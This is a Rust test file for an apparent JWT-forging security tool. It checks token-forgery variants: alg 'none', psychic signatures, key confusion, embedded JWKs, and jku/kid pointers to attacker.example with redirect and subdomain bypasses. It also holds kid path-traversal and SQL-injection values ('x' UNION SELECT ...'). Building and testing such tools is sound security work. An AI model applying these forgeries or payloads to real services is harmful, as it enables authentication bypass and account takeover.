//! Tests of the forger: every variant decodes and carries what it claims.

use super::*;
use crate::jwt::decode::decode;
use crate::jwt::keys::{KeyMaterial, select_from_jwks};
use crate::jwt::sign::sign;
use crate::jwt::verify::{VerifyOptions, verify};

const NOW: i64 = 1_700_000_000;

fn es256_token() -> Decoded {
    let pair = crate::jwt::keygen::generate("ES256").unwrap();
    let h = json!({"typ": "JWT", "kid": "prod-1"})
        .as_object()
        .unwrap()
        .clone();
    let t = sign(
        &h,
        &json!({"sub": "alice", "role": "user", "exp": NOW + 60}),
        "ES256",
        &SigningKey::Pem(pair.private_pem),
    )
    .unwrap();
    decode(&t).unwrap()
}

fn by<'a>(vs: &'a [Variant], attack: &str) -> &'a Variant {
    vs.iter()
        .find(|v| v.attack == attack)
        .unwrap_or_else(|| panic!("no {attack}"))
}

#[test]
fn without_options_makes_the_keyless_variants() {
    let d = es256_token();
    let vs = forge(
        &d,
        &ForgeOptions {
            now: NOW,
            ..Default::default()
        },
    )
    .unwrap();
    let ids: Vec<_> = vs.iter().map(|v| v.attack).collect();
    assert_eq!(
        ids,
        [
            "alg-none",
            "alg-none-capitalized",
            "alg-none-upper",
            "alg-none-mixed",
            "signature-stripped",
            "null-signature",
            "empty-secret",
            "embedded-jwk",
            "kid-traversal",
            "kid-traversal-known-file",
            "kid-sql-injection",
            "psychic-signature"
        ]
    );
    for v in &vs {
        let f = decode(&v.token).unwrap_or_else(|e| panic!("{}: {e}", v.attack));
        assert_eq!(f.claims().unwrap()["sub"], "alice", "{}", v.attack);
        assert!(!v.explanation.is_empty());
    }
}

#[test]
fn variants_carry_what_they_claim() {
    let d = es256_token();
    let vs = forge(
        &d,
        &ForgeOptions {
            now: NOW,
            ..Default::default()
        },
    )
    .unwrap();
    for (id, spelling) in [
        ("alg-none", "none"),
        ("alg-none-capitalized", "None"),
        ("alg-none-upper", "NONE"),
        ("alg-none-mixed", "nOnE"),
    ] {
        let f = decode(&by(&vs, id).token).unwrap();
        assert_eq!(f.alg.as_deref(), Some(spelling));
        assert!(f.signature.is_empty() && f.signature_b64.is_empty());
        assert_eq!(f.header["kid"], "prod-1");
    }
    let stripped = decode(&by(&vs, "signature-stripped").token).unwrap();
    assert_eq!(stripped.alg.as_deref(), Some("ES256"));
    assert!(stripped.signature.is_empty());
    let null = decode(&by(&vs, "null-signature").token).unwrap();
    assert_eq!(null.signature, vec![0; 64]);
    let psychic = decode(&by(&vs, "psychic-signature").token).unwrap();
    assert_eq!(
        (psychic.alg.as_deref(), psychic.signature.clone()),
        (Some("ES256"), vec![0; 64])
    );
    let empty = decode(&by(&vs, "empty-secret").token).unwrap();
    let v = verify(
        &empty,
        &KeyMaterial::Secret(Vec::new()),
        &VerifyOptions::new(NOW),
    )
    .unwrap();
    assert!(v.is_valid());
    // Each kid names where a vulnerable server finds its key, and that key signs the token.
    for (attack, kid, key) in [
        (
            "kid-traversal",
            format!("{}dev/null", "../".repeat(12)),
            b"".to_vec(),
        ),
        (
            "kid-traversal-known-file",
            format!("{}proc/sys/kernel/randomize_va_space", "../".repeat(12)),
            b"2\n".to_vec(),
        ),
        (
            "kid-sql-injection",
            "x' UNION SELECT 'apiward'-- ".to_string(),
            b"apiward".to_vec(),
        ),
    ] {
        let forged = decode(&by(&vs, attack).token).unwrap();
        assert_eq!(forged.header["kid"], kid.as_str(), "{attack}");
        assert!(
            verify(&forged, &KeyMaterial::Secret(key), &VerifyOptions::new(NOW))
                .unwrap()
                .is_valid(),
            "{attack}"
        );
    }
}

#[test]
fn embedded_jwk_verifies_with_its_own_key() {
    let d = es256_token();
    let v = forge_one(
        "embedded-jwk",
        &d,
        &ForgeOptions {
            now: NOW,
            ..Default::default()
        },
    )
    .unwrap();
    let f = decode(&v.token).unwrap();
    let key = KeyMaterial::from_jwk(&f.header["jwk"]).unwrap();
    assert!(
        verify(&f, &key, &VerifyOptions::new(NOW))
            .unwrap()
            .is_valid()
    );
    assert!(
        f.header["jwk"].get("d").is_none(),
        "never embed the private key"
    );
}

#[test]
fn key_confusion_and_jku_and_resign_with_options() {
    let d = es256_token();
    let pem = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n";
    let opts = ForgeOptions {
        public_key_pem: Some(pem.into()),
        secret: Some(b"cracked".to_vec()),
        jku_url: Some("https://attacker.example/jwks.json".into()),
        jku_redirect: Some("https://trusted.example/out?to=".into()),
        set: vec![
            ("role".into(), "admin".into()),
            ("exp".into(), "+1h".into()),
        ],
        now: NOW,
    };
    let vs = forge(&d, &opts).unwrap();
    // The user-info and sub-domain shapes need a trusted jku in the token: not this one.
    assert_eq!(vs.len(), ATTACKS.len() - 2);
    assert!(skipped(&d, &opts).is_empty());
    for v in &vs {
        let f = decode(&v.token).unwrap();
        assert_eq!(f.claims().unwrap()["role"], "admin", "{}", v.attack);
        let exp = f.claims().unwrap().get("exp").and_then(Value::as_i64);
        match v.attack {
            "claim-exp-past" => assert_eq!(exp, Some(NOW - 3600)),
            "claim-exp-missing" => assert_eq!(exp, None),
            _ => assert_eq!(exp, Some(NOW + 3600), "{}", v.attack),
        }
    }
    let kc = decode(&by(&vs, "key-confusion").token).unwrap();
    assert_eq!(kc.alg.as_deref(), Some("HS256"));
    let v = verify(
        &kc,
        &KeyMaterial::Secret(pem.as_bytes().to_vec()),
        &VerifyOptions::new(NOW),
    )
    .unwrap();
    assert!(v.is_valid());
    let jku = by(&vs, "jku");
    let f = decode(&jku.token).unwrap();
    assert_eq!(f.header["jku"], "https://attacker.example/jwks.json");
    let (_, key) = select_from_jwks(
        jku.extra.as_deref().unwrap(),
        f.header_str("kid"),
        f.alg.as_deref(),
    )
    .unwrap();
    assert!(
        verify(&f, &key, &VerifyOptions::new(NOW))
            .unwrap()
            .is_valid()
    );
    let rs = decode(&by(&vs, "resign").token).unwrap();
    assert!(
        verify(
            &rs,
            &KeyMaterial::Secret(b"cracked".to_vec()),
            &VerifyOptions::new(NOW)
        )
        .unwrap()
        .is_valid()
    );
}

#[test]
fn hmac_tokens_keep_their_alg_and_text_payloads_survive() {
    let t = sign(
        &Map::new(),
        &json!({"sub": "a"}),
        "HS512",
        &SigningKey::Secret(b"s".to_vec()),
    )
    .unwrap();
    let v = forge_one(
        "resign",
        &decode(&t).unwrap(),
        &ForgeOptions {
            secret: Some(b"s".to_vec()),
            ..Default::default()
        },
    )
    .unwrap();
    assert_eq!(
        v.token, t,
        "re-signing unchanged claims with the same secret gives the same token"
    );
    let text = "eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.AA";
    let v = forge_one(
        "embedded-jwk",
        &decode(text).unwrap(),
        &ForgeOptions::default(),
    )
    .unwrap();
    assert_eq!(
        decode(&v.token).unwrap().payload_b64(),
        "RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc"
    );
}

#[test]
fn errors_name_the_problem() {
    let d = es256_token();
    let e = forge_one("key-confusion", &d, &ForgeOptions::default())
        .unwrap_err()
        .to_string();
    assert!(e.contains("public key PEM"), "{e}");
    let e = forge_one("sql", &d, &ForgeOptions::default())
        .unwrap_err()
        .to_string();
    assert!(e.contains("unknown attack"), "{e}");
    let text = decode("eyJhbGciOiJFZERTQSJ9.RXhhbXBsZSBvZiBFZDI1NTE5IHNpZ25pbmc.AA").unwrap();
    let opts = ForgeOptions {
        set: vec![("a".into(), "1".into())],
        ..Default::default()
    };
    assert!(forge(&text, &opts).is_err());
}

fn hs256_token(header: Value, claims: Value) -> Decoded {
    let t = sign(
        header.as_object().unwrap(),
        &claims,
        "HS256",
        &SigningKey::Secret(b"s3cret".to_vec()),
    )
    .unwrap();
    decode(&t).unwrap()
}

#[test]
fn claim_variants_change_one_check_each_and_are_signed_with_the_secret() {
    let d = hs256_token(
        json!({}),
        json!({"sub": "a", "aud": "api", "iss": "me", "nbf": NOW + 10, "exp": NOW - 10}),
    );
    let opts = ForgeOptions {
        secret: Some(b"s3cret".to_vec()),
        now: NOW,
        ..Default::default()
    };
    let vs = forge(&d, &opts).unwrap();
    let claims = |attack: &str| {
        let f = decode(&by(&vs, attack).token).unwrap();
        let v = verify(
            &f,
            &KeyMaterial::Secret(b"s3cret".to_vec()),
            &VerifyOptions::new(NOW),
        );
        assert!(v.unwrap().signature_valid, "{attack}");
        f.claims().unwrap().clone()
    };
    // Everything else passes: exp ahead, nbf behind, the original aud and iss.
    let c = claims("claim-exp-past");
    assert_eq!(
        (c["exp"].as_i64(), c["nbf"].as_i64()),
        (Some(NOW - 3600), Some(NOW - 60))
    );
    assert_eq!((&c["aud"], &c["iss"]), (&json!("api"), &json!("me")));
    let c = claims("claim-nbf-future");
    assert_eq!(
        (c["exp"].as_i64(), c["nbf"].as_i64()),
        (Some(NOW + 3600), Some(NOW + 3600))
    );
    let c = claims("claim-aud-foreign");
    assert_eq!(
        (c["aud"].as_str(), c["iss"].as_str()),
        (Some(FOREIGN_AUD), Some("me"))
    );
    let c = claims("claim-iss-foreign");
    assert_eq!(
        (c["aud"].as_str(), c["iss"].as_str()),
        (Some("api"), Some(FOREIGN_ISS))
    );
    let c = claims("claim-exp-missing");
    assert!(c.get("exp").is_none());
    // Without the secret they are listed with the option that enables them.
    let none = ForgeOptions {
        now: NOW,
        ..Default::default()
    };
    let skipped = skipped(&d, &none);
    let claim_skips: Vec<_> = skipped
        .iter()
        .filter(|s| s.attack.starts_with("claim-") || s.attack == "resign")
        .map(|s| s.option)
        .collect();
    assert_eq!(claim_skips, ["--secret S"; 6]);
}

#[test]
fn a_trusted_jku_gets_the_bypass_shapes() {
    let d = hs256_token(
        json!({"jku": "https://keys.trusted.example:8443/jwks.json", "kid": "k1"}),
        json!({"sub": "a"}),
    );
    let mut opts = ForgeOptions {
        jku_url: Some("https://attacker.example/jwks.json".into()),
        now: NOW,
        ..Default::default()
    };
    // The redirect needs its prefix: listed, not silently left out.
    let s = skipped(&d, &opts);
    assert_eq!(s.len(), 1 + 7, "{s:?}");
    assert!(
        s.iter()
            .any(|s| s.attack == "jku-redirect" && s.option == "--jku-redirect URL-PREFIX")
    );
    opts.jku_redirect = Some("https://keys.trusted.example:8443/go?u=".into());
    let vs = forge(&d, &opts).unwrap();
    let jku = |attack: &str| {
        let f = decode(&by(&vs, attack).token).unwrap();
        assert_eq!(f.header_str("kid"), Some(FORGED_KID), "{attack}");
        f.header_str("jku").unwrap().to_string()
    };
    assert_eq!(jku("jku"), "https://attacker.example/jwks.json");
    assert_eq!(
        jku("jku-userinfo"),
        "https://keys.trusted.example:8443@attacker.example/jwks.json"
    );
    assert_eq!(
        jku("jku-subdomain"),
        "https://keys.trusted.example.attacker.example/jwks.json"
    );
    assert_eq!(
        jku("jku-redirect"),
        "https://keys.trusted.example:8443/go?u=https%3A%2F%2Fattacker.example%2Fjwks.json"
    );
    let kid_url = decode(&by(&vs, "kid-url").token).unwrap();
    assert_eq!(
        kid_url.header_str("kid"),
        Some("https://attacker.example/jwks.json")
    );
    assert!(kid_url.header.get("jku").is_none());
    // One key pair signs them all, so the one JWKS verifies each.
    let jwks = by(&vs, "jku").extra.clone().unwrap();
    for attack in ["jku-userinfo", "jku-subdomain", "jku-redirect", "kid-url"] {
        assert_eq!(by(&vs, attack).extra.as_deref(), Some(jwks.as_str()));
        let f = decode(&by(&vs, attack).token).unwrap();
        let (_, key) = select_from_jwks(&jwks, Some(FORGED_KID), f.alg.as_deref()).unwrap();
        assert!(
            verify(&f, &key, &VerifyOptions::new(NOW))
                .unwrap()
                .signature_valid,
            "{attack}"
        );
    }
    // A loopback jku cannot take a sub-domain: listed with what it needs.
    opts.jku_url = Some("http://127.0.0.1:9/jwks.json".into());
    let s = skipped(&d, &opts);
    assert!(
        s.iter()
            .any(|s| s.attack == "jku-subdomain" && s.needs.contains("domain name")),
        "{s:?}"
    );
    assert!(
        forge(&d, &opts)
            .unwrap()
            .iter()
            .all(|v| v.attack != "jku-subdomain")
    );
}
